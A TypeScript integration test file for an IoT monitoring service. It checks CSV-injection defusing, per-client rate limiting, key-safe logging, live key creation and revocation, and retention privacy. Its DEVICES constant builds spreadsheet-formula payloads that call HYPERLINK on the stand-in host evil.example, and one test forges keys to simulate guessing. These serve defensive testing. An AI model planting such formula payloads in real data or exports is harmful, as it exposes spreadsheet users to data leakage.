/**
 * Issue 13's security acceptance on real servers (Mosquitto, InfluxDB, the service as it runs): device names that
 * are spreadsheet formulas, given by the network server, reach every CSV export defused; requests without a key
 * and repeated failed authentications get 429, per client address behind a trusted proxy; each refusal is logged
 * once, never with the key; a key created through the API (or the CLI, another process) works at once, a revoked
 * one is refused at once, and both survive a restart; a commune's key does not read the instance's key names in
 * /retention.
 */
import { execFile } from 'node:child_process';
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { promisify } from 'node:util';
import pino from 'pino';
import { stringify } from 'yaml';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { generateKey } from '../../services/api/keys.ts';
import { loadConfig } from '../../services/config/load.ts';
import { createService, type Service } from '../../services/service.ts';
import { generateUplinks } from '../../services/simulator/generator.ts';
import { publishUplinks } from '../../services/simulator/publish.ts';
import { TOWN, townRegistry } from '../../services/simulator/town.ts';
import { countPoints, ROOT, startStack, waitFor, type Stack } from './support.ts';

const A = 'saint-veilleur';
const HOUR = 3_600_000;
// Names as a network server may carry them: each one a formula in a spreadsheet that opens the CSV.
const PREFIXES = ['=', '+', '-', '@'];
const DEVICES = TOWN.filter((d) => d.lnsTenant === TOWN[0]!.lnsTenant).map((d, i) => ({ ...d, name: `${PREFIXES[i % 4]}HYPERLINK("http://evil.example/?${d.name}","${d.name}")` }));

const keys = { root: generateKey('secitroot01'), aAdmin: generateKey('secitadmin1'), aViewer: generateKey('secitview01') };
const created: string[] = [];

let stack: Stack;
let service: Service;
let url: string;
let configFile: string;
let dataDir: string;
const logFile = () => join(stack.dir, 'security-service.log');

async function startService(): Promise<void> {
  const cfg = loadConfig({
    MQTT_URL: stack.mqtt.url,
    MQTT_CLIENT_ID: 'veilleur-security-it',
    INFLUX_URL: stack.influx.url,
    INFLUX_DB: stack.db,
    HTTP_PORT: '0',
    DATA_DIR: dataDir,
    VEILLEUR_CONFIG: configFile,
    ALERT_EVAL_MINUTES: '1440',
    HTTP_RATE_LIMIT_PER_MINUTE: '40',
    HTTP_AUTH_FAILURE_LIMIT: '5',
    // The tests are the reverse proxy: each one speaks for its own client address.
    HTTP_TRUST_PROXY: '127.0.0.1',
  });
  service = createService(cfg, pino({ level: 'info' }, pino.destination({ dest: logFile(), append: true, sync: true })));
  await service.start();
  url = service.address();
}

async function call(from: string, method: string, path: string, key?: string, body?: unknown) {
  const r = await fetch(url + path, {
    method,
    headers: { 'x-forwarded-for': from, ...(key ? { authorization: `Bearer ${key}` } : {}), ...(body !== undefined ? { 'content-type': 'application/json' } : {}) },
    ...(body !== undefined ? { body: JSON.stringify(body) } : {}),
  });
  const text = await r.text();
  return { status: r.status, text, json: () => JSON.parse(text), headers: r.headers };
}

const refusalLines = (ip: string) =>
  readFileSync(logFile(), 'utf8')
    .split('\n')
    .filter(Boolean)
    .map((l) => JSON.parse(l) as Record<string, any>)
    .filter((l) => l.msg === 'request refused' && l.ip === ip);

beforeAll(async () => {
  stack = await startStack();
  dataDir = join(stack.dir, 'service');
  mkdirSync(dataDir, { recursive: true });
  const registry = townRegistry(DEVICES);
  // The names come from the network server's messages, not from the registry.
  for (const d of registry.devices) delete d.name;
  registry.apiKeys = [
    { id: keys.root.id, name: 'agglomération DSI', role: 'admin', tenants: ['*'], hash: keys.root.hash },
    { id: keys.aAdmin.id, name: 'DSI Saint-Veilleur', role: 'admin', tenants: [A], hash: keys.aAdmin.hash },
    { id: keys.aViewer.id, name: 'élus', role: 'viewer', tenants: [A], hash: keys.aViewer.hash },
  ];
  configFile = join(stack.dir, 'veilleur.yaml');
  writeFileSync(configFile, stringify(registry), { mode: 0o600 });
  await startService();
  const end = new Date();
  const uplinks = [...generateUplinks({ start: new Date(end.getTime() - 26 * HOUR), end, seed: 5, devices: DEVICES })];
  await publishUplinks(uplinks, { url: stack.mqtt.url });
  await waitFor(async () => (await countPoints(stack.influx, stack.db, 'SELECT count(f_cnt) FROM uplink')) >= uplinks.length, 60_000, 'history stored');
}, 180_000);

afterAll(async () => {
  await service?.stop(2000);
  await stack?.close();
});

/** RFC 4180 cells (quotes doubled, CRLF rows). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  if (cell || row.length) {
    row.push(cell);
    rows.push(row);
  }
  return rows;
}

describe('CSV exports', () => {
  it('defuse device names that are spreadsheet formulas in every export', async () => {
    const from = '192.0.2.1';
    const day = new Date(Date.now() - 24 * HOUR).toISOString();
    const year = new Date().getUTCFullYear();
    const exports = {
      'readings.csv': `/api/v1/export/readings.csv?site=mairie&quantity=air.temperature&from=${day}`,
      'daily.csv': `/api/v1/export/daily.csv?site=mairie&quantity=metering.water.total&from=${new Date(Date.now() - 2 * 86_400_000).toISOString()}`,
      datacenter: `/api/v1/reports/datacenter?site=mairie&from=${day}&to=${new Date().toISOString()}&format=csv`,
      parsimony: `/api/v1/reports/parsimony?format=csv`,
      yearly: `/api/v1/reports/yearly?year=${year}&format=csv`,
    };
    for (const [what, path] of Object.entries(exports)) {
      const r = await call(from, 'GET', path, keys.aViewer.key);
      expect(r.status, what).toBe(200);
      expect(r.headers.get('content-type'), what).toContain('text/csv');
      const cells = parseCsv(r.text).flat();
      const live = cells.filter((c) => /^[=+\-@\t\r]/.test(c) && !/^-?\d+(\.\d+)?(e[-+]?\d+)?$/i.test(c));
      expect(live, `${what}: cells a spreadsheet would run`).toEqual([]);
      expect(cells.some((c) => /^'[=+\-@]HYPERLINK\("http:\/\/evil\.example/.test(c)), `${what}: a defused device name`).toBe(true);
    }
  }, 60_000);
});

describe('throttling and refusals', () => {
  it('answers 429 to requests without a key past the limit, each refusal logged once', async () => {
    const from = '198.51.100.20';
    const statuses: number[] = [];
    for (let i = 0; i < 60; i++) statuses.push((await call(from, 'GET', `/api/v1/devices?n=${i}`)).status);
    expect(statuses.slice(0, 40)).toEqual(Array(40).fill(401));
    expect(statuses.slice(40)).toEqual(Array(20).fill(429));
    // Another client address is not held back by this one.
    expect((await call('198.51.100.21', 'GET', '/api/v1/whoami', keys.aViewer.key)).status).toBe(200);
    const lines = refusalLines(from);
    expect(lines).toHaveLength(60);
    expect(new Set(lines.map((l) => l.reqId)).size).toBe(60);
    expect(lines.map((l) => l.status)).toEqual(statuses);
    expect(lines[0]).toMatchObject({ level: 40, route: '/api/v1/devices', path: '/api/v1/devices', keyId: null });
  });

  it('answers 429 after repeated failed authentications, even to the right key, and never logs a key', async () => {
    const from = '198.51.100.30';
    const forged = `vk_${keys.root.id}_${'Z'.repeat(43)}`;
    const statuses: number[] = [];
    for (let i = 0; i < 5; i++) statuses.push((await call(from, 'GET', '/api/v1/alerts', forged)).status);
    expect(statuses).toEqual([401, 401, 401, 401, 401]);
    const guessed = await call(from, 'GET', '/api/v1/alerts', keys.root.key);
    expect(guessed.status).toBe(429);
    expect(Number(guessed.headers.get('retry-after'))).toBeGreaterThan(0);
    expect((await call('198.51.100.31', 'GET', '/api/v1/whoami', keys.root.key)).status).toBe(200);
    const lines = refusalLines(from);
    expect(lines.map((l) => [l.status, l.keyId])).toEqual([...Array(5).fill([401, keys.root.id]), [429, keys.root.id]]);
    const log = readFileSync(logFile(), 'utf8');
    expect(log).not.toContain('Z'.repeat(43));
    for (const k of Object.values(keys)) expect(log).not.toContain(k.key.slice(-43));
  });
});

describe('keys managed without restarting', () => {
  it('a key created through the API or the CLI works at once, a revoked one is refused at once, and both survive a restart', async () => {
    const from = '203.0.113.40';
    const whoami = async (key: string) => (await call(from, 'GET', '/api/v1/whoami', key)).status;

    const viaApi = await call(from, 'POST', '/api/v1/keys', keys.root.key, { name: 'Grafana mairie', role: 'viewer', tenants: [A] });
    expect(viaApi.status).toBe(201);
    const kept = viaApi.json();
    created.push(kept.key);
    expect(await whoami(kept.key)).toBe(200);

    const byCommune = await call(from, 'POST', '/api/v1/keys', keys.aAdmin.key, { name: 'prestataire', role: 'operator' });
    expect(byCommune.status).toBe(201);
    const dropped = byCommune.json();
    created.push(dropped.key);
    expect(dropped.tenants).toEqual([A]);
    expect(await whoami(dropped.key)).toBe(200);
    expect((await call(from, 'POST', `/api/v1/keys/${dropped.id}/revoke`, keys.aAdmin.key)).status).toBe(200);
    expect(await whoami(dropped.key)).toBe(401);

    // The CLI, another process, on the same DATA_DIR: its key works on the running service from the next request.
    const run = (...args: string[]) => promisify(execFile)(process.execPath, [join(ROOT, 'bin', 'veilleur.js'), 'keys', ...args], { env: { PATH: process.env.PATH ?? '', DATA_DIR: dataDir, VEILLEUR_CONFIG: configFile } });
    const cliKey = (await run('create', '--name', 'script de relève', '--role', 'viewer', '--tenant', A)).stdout.trim();
    created.push(cliKey);
    expect(await whoami(cliKey)).toBe(200);
    await run('revoke', /^vk_([a-z0-9]+)_/.exec(cliKey)![1]!);
    expect(await whoami(cliKey)).toBe(401);

    const listed = (await call(from, 'GET', '/api/v1/keys', keys.aAdmin.key)).json() as { id: string; name: string; state: string; lastUsed: string | null }[];
    expect(listed.find((k) => k.id === kept.id)).toMatchObject({ name: 'Grafana mairie', state: 'active' });
    expect(listed.find((k) => k.id === dropped.id)).toMatchObject({ state: 'revoked' });
    expect(listed.some((k) => k.id === keys.root.id)).toBe(false);

    await service.stop(5000);
    await startService();
    expect(await whoami(kept.key)).toBe(200);
    expect(await whoami(dropped.key)).toBe(401);
    expect(await whoami(cliKey)).toBe(401);
    const after = (await call(from, 'GET', '/api/v1/keys', keys.root.key)).json() as { id: string; lastUsed: string | null }[];
    expect(after.find((k) => k.id === kept.id)!.lastUsed).not.toBeNull();
    const log = readFileSync(logFile(), 'utf8');
    for (const k of created) expect(log).not.toContain(k.slice(-43));
  }, 60_000);
});

describe('retention as a commune sees it', () => {
  it("names the instance team, not the instance's key, in the last change", async () => {
    const from = '203.0.113.50';
    expect((await call(from, 'POST', '/api/v1/retention', keys.root.key, { events: '4000d' })).status).toBe(200);
    const mine = (await call(from, 'GET', '/api/v1/retention', keys.root.key)).json();
    expect(mine.classes.find((c: any) => c.dataClass === 'events').lastChange.actor).toBe(`agglomération DSI (${keys.root.id})`);
    const commune = await call(from, 'GET', '/api/v1/retention', keys.aViewer.key);
    expect(commune.json().classes.find((c: any) => c.dataClass === 'events').lastChange).toMatchObject({ actor: 'instance team', newValue: '4000d' });
    expect(commune.text).not.toContain('agglomération DSI');
    expect(commune.text).not.toContain(keys.root.id);
    const audit = await call(from, 'GET', '/api/v1/retention/audit', keys.aViewer.key);
    expect(audit.status).toBe(200);
    expect(audit.text).not.toContain(keys.root.id);
  });
});
